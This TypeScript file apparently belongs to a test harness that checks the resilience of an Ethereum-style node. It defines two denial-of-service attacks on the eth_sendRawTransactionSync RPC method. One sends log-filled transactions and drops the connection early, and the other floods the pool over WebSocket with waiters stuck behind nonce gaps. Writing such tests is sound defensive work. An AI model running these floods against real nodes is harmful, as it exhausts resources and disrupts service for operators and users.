import { setTimeout as sleep } from 'node:timers/promises';
import { signTransaction } from '#qord/kernel/transaction/codec.ts';
import type { Transaction } from '#qord/kernel/transaction/transaction.ts';
import { emptyBytes } from '#qord/primitives/bytes.ts';
import { fromHex, toHex } from '#qord/primitives/hex.ts';
import { assemble } from '#qord/testing/evm/assemble.ts';
import { accountOf, signFrom } from '#qord/testing/sign-from.ts';
import { type Attack, type AttackContext, sized } from '../attack.ts';
import { openFundedAttacker } from '../funded-attacker.ts';

const cap = 100n * 10n ** 11n;

/** Code that emits empty logs until its gas is used up. */
const emptyLogs = assemble('JUMPDEST', 0, 0, 'LOG0', 20_000, 'GAS', 'GT', 0, 'JUMPI', 'STOP');

/** Clients that wait for a receipt with long logs and leave before the block. */
export const leavingWaiters: Attack = {
  summary: 'clients that wait for the receipt of a transaction full of logs and leave before its block, one in 200 ms',
  attack: async (context) => {
    const { clients, urls, signal } = context;
    const gasLimit = BigInt(sized(context, 15_000_000, 3_000_000));
    for (let round = 0; round < sized(context, 60, 4) && !signal.aborted; round++) {
      const nonce = await nextNonce(context, 1);
      const fields = { to: undefined, value: 0n, data: emptyLogs, gasLimit, cap, nonce };
      const body = requestOf(1, toHex(signFrom(1, fields).raw));
      const socket = await clients.connect(urls.http ?? '');
      const head = `POST / HTTP/1.1\r\nhost: ${new URL(urls.http ?? '').host}\r\ncontent-type: application/json\r\ncontent-length: ${body.length}\r\n\r\n`;
      socket.write(head + body);
      await sleep(round % 20);
      if (round % 2 === 0) socket.resetAndDestroy();
      else socket.end();
      clients.tally.add('left before the block');
      await sleep(200);
    }
  },
};

/** Waiting transactions of one account: as many as the pool takes behind a gap. */
const behindGap = 62;

/** Requests that wait for transactions behind a gap in the nonces, which are never executed and cost nothing. */
export const gappedWaiters: Attack = {
  summary: '5,000 requests over WebSocket that wait for receipts behind a gap in the nonces',
  attack: async (context) => {
    const accounts = sized(context, 80, 3);
    const payer = await openFundedAttacker(context);
    let funded: string | undefined;
    for (let account = 0; account < accounts && !context.signal.aborted; account++) {
      funded = await payer.send({ to: signed(account, 0).sender, value: 3n * 10n ** 18n, gasLimit: 60_000n });
    }
    await payer.receipt(funded);
    await Promise.all(Array.from({ length: accounts }, (_, account) => waitBehindGap(context, account)));
    await sleep(sized(context, 15_000, 500), undefined, { signal: context.signal }).catch(() => undefined);
  },
};

async function waitBehindGap({ clients, urls }: AttackContext, account: number): Promise<void> {
  const socket = await clients.openWebSocket(urls.webSocket ?? '');
  if (socket === undefined) return;
  socket.on('message', (data) => clients.tally.addResponse(JSON.parse(String(data))));
  for (let nonce = 1; nonce <= behindGap; nonce++) {
    socket.send(requestOf(nonce, toHex(signed(account, nonce).raw)));
    clients.tally.add('waits behind a gap');
  }
}

/** A transaction of an account that only this attack has. */
function signed(account: number, nonce: number): Transaction {
  const key = fromHex(`0x${(2 ** 40 + account).toString(16).padStart(64, '0')}`);
  const fees = { maxFeePerGas: 10n ** 12n, maxPriorityFeePerGas: 1n };
  const fields = { gasLimit: 21_000n, to: accountOf(1), value: 0n, data: emptyBytes, accessList: [] };
  return signTransaction({ type: 2, chainId: 9800n, nonce: BigInt(nonce), ...fees, ...fields }, key);
}

async function nextNonce({ clients, urls }: AttackContext, account: number): Promise<bigint> {
  const counted = await clients.call(urls.http ?? '', 'eth_getTransactionCount', accountOf(account), 'pending');
  return BigInt(String(counted?.result ?? '0x0'));
}

function requestOf(id: number, raw: string): string {
  return JSON.stringify({ jsonrpc: '2.0', id, method: 'eth_sendRawTransactionSync', params: [raw, 60_000] });
}
